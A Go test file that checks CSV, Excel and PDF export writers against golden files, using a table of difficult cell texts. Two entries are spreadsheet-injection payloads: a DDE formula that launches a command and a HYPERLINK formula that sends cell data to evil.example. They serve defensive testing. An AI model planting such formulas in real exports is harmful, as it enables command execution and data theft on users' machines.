package sheets

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"placeops/sheets/sheetstest"
	"placeops/store/decimal"
)

// hardTexts are what cells may hold, and what each is there for.
var hardTexts = [][2]string{
	{"nothing", ""},
	{"a formula", "=cmd|' /C calc'!A0"},
	{"a formula that calls out", `=HYPERLINK("http://evil.example/?"&A1,"marks")`},
	{"plus", "+1"}, {"a phone number", "+91 98765 43210"}, {"minus", "-"}, {"a negative number", "-5.25"}, {"minus a cell", "-A1"},
	{"at", "@SUM(A1:A9)"}, {"a tab first", "\t=1+1"}, {"a carriage return first", "\r=1+1"}, {"a line feed first", "\n=1+1"},
	{"a blank first", " =1+1"}, {"a wide sign", "＝1+1"}, {"an invisible character first", "\u200b=1+1"}, {"an apostrophe", "'81"},
	{"quotes", `Carol "C" D'Souza`}, {"only a quote", `"`}, {"commas", "Rao, Asha; Pune"}, {"tabs", "a\tb"},
	{"lines", "one\ntwo\r\nthree\rfour"}, {"blanks around", "  x  "},
	{"Devanagari", "आशा क्षत्रिय"}, {"Tamil", "தமிழ்ச்செல்வி"}, {"joiners", "क्\u200dष श्\u200cर"}, {"right to left", "محمد"}, {"Greek and Cyrillic", "Ελλάδα Россия"},
	{"accents, composed and not", "Zoë Zoe\u0308 Łukasz Đặng"}, {"signs", "₹ 12.5 LPA – “A+” <b>&amp;</b>"},
	{"beyond 16 bits", "\U0001F600 𝒜"}, {"control characters", "a\x0bb\x1fc"},
	{"what Excel would decode", "_x0041_ _x005F_"}, {"a line separator", "a\u2028b"},
	{"long", strings.TrimSpace(strings.Repeat("Bharatiya Anusandhan ", 10))[:200]}, {"long in one word", strings.Repeat("Donaudampfschiff", 20)[:200]},
	{"a number as text", "007"}, {"a date as text", "1-2"}, {"truth as text", "TRUE"},
}

func TestCSVIsAsGolden(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	w := NewCSVWriter(&out)
	require.NoError(t, w.Write("what", "text", "end"))
	for _, text := range hardTexts {
		require.NoError(t, w.Write(text[0], text[1], ""))
	}
	require.NoError(t, w.Flush())
	sheetstest.Golden(t, "texts.csv", out.Bytes())
}

func TestExcelIsAsGolden(t *testing.T) {
	t.Parallel()
	goldenExcel(t, "texts.xlsx", []Column{{"What", 28, Text}, {"Text", 60, Text}}, func(x *XLSXWriter) {
		for _, text := range hardTexts {
			require.NoError(t, x.Write(text[0], text[1]))
		}
	})
	columns := []Column{
		{"Whole", 12, Whole}, {"Marks", 12, Marks}, {"Share", 12, Percent}, {"Day", 15, Day}, {"Moment", 20, Moment}, {"Text", 30, Text},
	}
	goldenExcel(t, "empty.xlsx", columns, func(*XLSXWriter) {})
	goldenExcel(t, "values.xlsx", columns, func(x *XLSXWriter) {
		for _, mark := range []string{"0", "10", "7.5", "7.495", "7.4951", "6.0001", "9.9999", "33.3333", "-0.25"} {
			exact := decimal.MustParse(mark)
			require.NoError(t, x.Write(int32(2027), &exact, exact.InexactFloat64(), nil, nil, mark))
		}
		for _, moment := range []string{ // in India midnight is at 18:30 UTC
			"2026-05-31T18:29:59Z", "2026-05-31T18:29:59.999999Z", "2026-05-31T18:30:00Z", "2026-12-31T18:30:00Z", "2028-02-28T18:30:00Z",
			"1999-12-31T23:59:59Z", "2026-06-01T04:31:00Z",
		} {
			at, err := time.Parse(time.RFC3339Nano, moment)
			require.NoError(t, err)
			require.NoError(t, x.Write(nil, nil, nil, at, &at, moment))
		}
		require.NoError(t, x.Write((*int32)(nil), (*decimal.Decimal)(nil), nil, (*time.Time)(nil), nil, (*string)(nil)))
	})
}

func goldenExcel(t *testing.T, name string, columns []Column, fill func(*XLSXWriter)) {
	t.Helper()
	var out bytes.Buffer
	x, err := NewXLSXWriter(&out, "Golden", madeOn, columns...)
	require.NoError(t, err)
	defer func() { require.NoError(t, x.Close()) }()
	fill(x)
	require.NoError(t, x.Finish())
	keep(t, name, out.Bytes())
	sheetstest.Golden(t, name+".txt", sheetstest.XLSXDump(t, out.Bytes()))
}

func TestPDFIsAsGolden(t *testing.T) {
	t.Parallel()
	r := report(0)
	goldenPDF(t, "empty.pdf", r)
	for i, text := range hardTexts {
		r.Rows = append(r.Rows, []string{fmt.Sprint(i + 1), text[1], text[0], fmt.Sprint(i * i * i)})
	}
	goldenPDF(t, "texts.pdf", r)
	r.Title, r.Under, r.Rows = hardTexts[1][1]+strings.Repeat(" long", 40), strings.Repeat("under ", 60), nil
	goldenPDF(t, "title.pdf", r)
}

func goldenPDF(t *testing.T, name string, r *Report) {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, r.WritePDF(&out))
	keep(t, name, out.Bytes())
	sheetstest.Golden(t, name+".txt", sheetstest.PDFDump(t, out.Bytes()))
}
